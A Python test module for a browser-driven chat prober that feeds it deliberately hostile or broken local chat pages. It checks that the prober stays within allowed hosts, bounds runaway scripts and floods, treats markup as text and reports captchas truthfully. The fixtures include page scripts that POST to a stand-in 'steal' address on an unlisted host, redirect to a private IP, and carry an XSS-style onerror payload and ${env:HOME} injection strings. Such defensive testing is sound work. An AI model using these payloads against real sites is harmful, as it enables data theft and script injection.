"""Chat pages that are up to no good, or broken: bounded, kept within the plan's hosts, and told truthfully."""

from __future__ import annotations

import asyncio
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field
from typing import Any

import pytest

from probes import chat
from probes.browser import ChromiumSource
from probes.errors import Failure, FailureKind, Side
from probes.events import ChatEnded, ChatOpened, ContactOutcome, MessageSeen, MessageSent, NoticeSeen
from tests.chat.kit import Held, channel, hold, spec
from tests.web.kit import Answer, Asked, Site, site, tools

pytestmark = pytest.mark.slow

# A chat that works, with something nasty put into it.
PAGE = """<!doctype html><title>Chat</title>
<div class="chat"><div role="log" id="log" style="height:200px;overflow:auto"><p>Welcome.</p></div>
<textarea id="field" placeholder="Write a message"></textarea><button id="send">Send</button></div>
<script>
const log = document.getElementById('log'), field = document.getElementById('field');
const say = text => { const p = document.createElement('p'); p.textContent = text; log.append(p); };
document.getElementById('send').onclick = () => { const text = field.value; field.value = ''; say(text);
  fetch('/said', { method: 'POST', body: text }); setTimeout(() => heard(text), 300); };
const heard = text => { %s };
%s
</script>"""
WALL = "<title>Chat</title><div class='g-recaptcha' style='width:300px;height:80px'>I am not a robot</div>"


def _large() -> Iterator[bytes]:
    yield b"<!doctype html><title>Large</title>"
    for _ in range(50):
        yield b"<p>" + b"x" * 1_000_000


@dataclass(frozen=True)
class Trap:
    """A page and how long we wait on it; `{elsewhere}` in it is an address that the plan does not name."""

    page: str = ""
    body: Callable[[], Iterator[bytes]] | None = None
    waits: str = "4 s"
    parts: dict[str, Any] = field(default_factory=dict)


TRAPS = {
    "places": Trap(
        PAGE
        % (
            "alert('Hi'); open('{elsewhere}'); fetch('{elsewhere}steal', {method: 'POST', body: 'x'}).catch(() => {});"
            "const f = document.createElement('iframe'); f.src = '{elsewhere}'; document.body.append(f); say('Yes?');",
            "",
        )
    ),
    "leads away": Trap(PAGE % ("location.href = 'http://10.0.0.1/login'", "")),
    "endless script": Trap(PAGE % ("for (;;) {}", ""), waits="40 s"),
    "fifty megabytes": Trap(body=_large, parts={"timeout": "90 s"}),
    "flood": Trap(PAGE % ("for (let n = 0; n < 10000; n++) say('Offer number ' + n); say('y'.repeat(1000000));", "")),
    "markup": Trap(PAGE % ("say('<img src=x onerror=alert(1)> {persona.email} ${env:HOME}')", "")),
    "no chat": Trap("<title>Soup</title><h1>We sell soup</h1><a href='/blog'>Blog</a>", parts={"timeout": "10 s"}),
    "unnamed widget": Trap("<title>Soup</title><iframe src='{elsewhere}'></iframe>", parts={"timeout": "10 s"}),
    "captcha": Trap(WALL + PAGE % ("", "")),
    "deaf button": Trap(PAGE % ("", "document.getElementById('send').onclick = () => {};")),
}
Results = dict[str, tuple[Held, Site, Site]]


@pytest.fixture(scope="module")
def results() -> Iterator[Results]:
    """Hold a chat on every page, all at the same time in one browser."""

    def answering(trap: Trap, elsewhere: str) -> Callable[[Asked], Answer | str]:
        def answer(asked: Asked) -> Answer | str:
            if asked.path != "/":
                return Answer(status=204)
            return Answer(trap.body()) if trap.body is not None else trap.page.replace("{elsewhere}", elsewhere)

        return answer

    few = asyncio.Semaphore(6)  # a page that gets no processor for ten seconds shows nothing, and is charged with it

    async def one(name: str, browser: ChromiumSource, url: str) -> Held:
        script = [{"say": "Hello, where is my invoice?"}, {"wait_for": {"seen": "reply", "at_most": TRAPS[name].waits}}]
        given = {"scripts": {"ask": script}, "timeout": "60 s", "chat_at_most": "3 min"} | TRAPS[name].parts
        own = tools(browser)
        async with few:
            held = await hold(spec(channel(url=url, **given)), own, at_most_s=280)
            await own.running.close()
        return held

    async def every(urls: dict[str, str]) -> list[Held]:
        browser = ChromiumSource()
        try:
            return await asyncio.gather(*(one(name, browser, url) for name, url in urls.items()))
        finally:
            await browser.close()

    with ExitStack() as stack:
        others = {name: stack.enter_context(site(lambda _: "<p>Elsewhere</p>")) for name in TRAPS}
        sites = {
            name: stack.enter_context(site(answering(trap, others[name].url.replace("127.0.0.1", "localhost"))))
            for name, trap in TRAPS.items()
        }
        held = asyncio.run(every({name: each.url for name, each in sites.items()}))
        yield {name: (one, sites[name], others[name]) for name, one in zip(TRAPS, held, strict=True)}


def _failure(results: Results, name: str) -> Failure:
    failure = results[name][0].last.failure
    assert failure is not None, results[name][0].last
    return failure


def _said(served: Site) -> int:
    return len([each for each in served.asked if each.path == "/said"])


@pytest.mark.parametrize("name", TRAPS)
def test_nothing_reaches_a_place_that_the_plan_does_not_name(results: Results, name: str) -> None:
    assert results[name][2].asked == []


@pytest.mark.parametrize("name", TRAPS)
def test_nothing_is_said_twice(results: Results, name: str) -> None:
    assert _said(results[name][1]) <= 1


def test_dialogs_and_pop_ups_do_not_stop_a_chat(results: Results) -> None:
    held, _, _ = results["places"]
    assert [each.text for each in held.of(MessageSeen)] == ["Welcome.", "Yes?"]
    assert held.last.outcome is ContactOutcome.DONE


def test_a_chat_that_leads_away_is_over_there(results: Results) -> None:
    held, _, _ = results["leads away"]
    assert len(held.of(ChatOpened)) == 1
    assert len(held.of(ChatEnded)) == 1
    assert all("10.0.0.1" not in each.text for each in held.of(MessageSeen))


def test_a_script_that_never_ends_is_the_vendors_and_bounded(results: Results) -> None:
    failure = _failure(results, "endless script")
    assert (failure.kind, failure.side) == (FailureKind.TIMEOUT, Side.VENDOR)
    # It was opened, so that it is not opened again.
    assert results["endless script"][0].last.outcome is ContactOutcome.DONE


def test_a_page_of_fifty_megabytes_is_left(results: Results) -> None:
    assert _failure(results, "fifty megabytes").kind is FailureKind.TOO_LARGE
    held, _, _ = results["fifty megabytes"]
    assert held.last.outcome is ContactOutcome.FAILED
    assert held.of(ChatOpened) == []


def test_ten_thousand_messages_and_one_of_a_megabyte_stay_bounded(results: Results) -> None:
    seen = results["flood"][0].of(MessageSeen)
    assert 1 <= len(seen) <= 700
    assert max(len(each.text) for each in seen) <= 100_000


def test_markup_and_names_in_a_message_stay_text(results: Results) -> None:
    seen = results["markup"][0].of(MessageSeen)
    assert seen[-1].text == "<img src=x onerror=alert(1)> {persona.email} ${env:HOME}"


def test_a_page_without_a_chat_says_what_there_is(results: Results) -> None:
    failure = _failure(results, "no chat")
    assert failure.kind is FailureKind.ELEMENT_NOT_FOUND
    assert "We sell soup" in failure.text
    held, served, _ = results["no chat"]
    assert held.last.outcome is ContactOutcome.FAILED
    assert all(each.path in ("/", "/favicon.ico") for each in served.asked)


def test_a_widget_of_a_host_that_is_not_named_is_told(results: Results) -> None:
    failure = _failure(results, "unnamed widget")
    assert failure.kind is FailureKind.OUT_OF_BOUNDS
    assert results["unnamed widget"][2].url.split(":")[2].rstrip("/") in failure.text


def test_a_captcha_is_reported_and_not_fought(results: Results) -> None:
    assert _failure(results, "captcha").kind is FailureKind.BLOCKED
    assert _said(results["captcha"][1]) == 0


def test_words_that_stay_in_the_field_were_not_said(results: Results) -> None:
    assert _failure(results, "deaf button").kind is FailureKind.EXPECTATION_NOT_MET
    assert _said(results["deaf button"][1]) == 0


async def test_the_kill_switch_ends_a_chat_at_once() -> None:
    browser = ChromiumSource()
    with site(lambda asked: PAGE % ("say('Yes?')", "") if asked.path == "/" else Answer(status=204)) as served:
        own = tools(browser)
        script = [{"say": "Hello"}, {"wait": "10 min"}]
        of = channel(url=served.url, scripts={"ask": script}, chat_at_most="20 min")
        seen = await chat.submit(spec(of), own)
        async with asyncio.timeout(90):
            while not _said(served):
                seen = await chat.collect(seen.handle, own)
            await chat.abandon(seen.handle, own)
            while not seen.finished:
                seen = await chat.collect(seen.handle, own)
        await browser.close()
    assert seen.failure is not None
    assert seen.failure.kind is FailureKind.STOPPED
    assert _said(served) == 1


async def test_what_shows_before_our_words_have_left_is_told_after_them() -> None:
    """A field that empties late: a banner came meanwhile, and our words went out before it."""
    late = (
        "document.getElementById('send').onclick = () => { banner.textContent = 'You are number 3 in the queue.';"
        "setTimeout(() => { const text = field.value; field.value = ''; say(text);"
        "fetch('/said', { method: 'POST', body: text }); }, 1500); };"
    )
    page = (PAGE % ("", late)).replace("<textarea", "<div id=banner></div><textarea")
    browser = ChromiumSource()
    with site(lambda asked: page if asked.path == "/" else Answer(status=204)) as served:
        of = channel(url=served.url, scripts={"ask": [{"say": "Hello"}, {"wait": "3 s"}]}, chat_at_most="1 min")
        held = await hold(spec(of), tools(browser))
    await browser.close()
    (queued,), (sent,) = held.of(NoticeSeen), held.of(MessageSent)
    assert held.at(sent) < held.at(queued)
    moments = [each.at_utc for each in held.sightings]
    assert moments == sorted(moments)
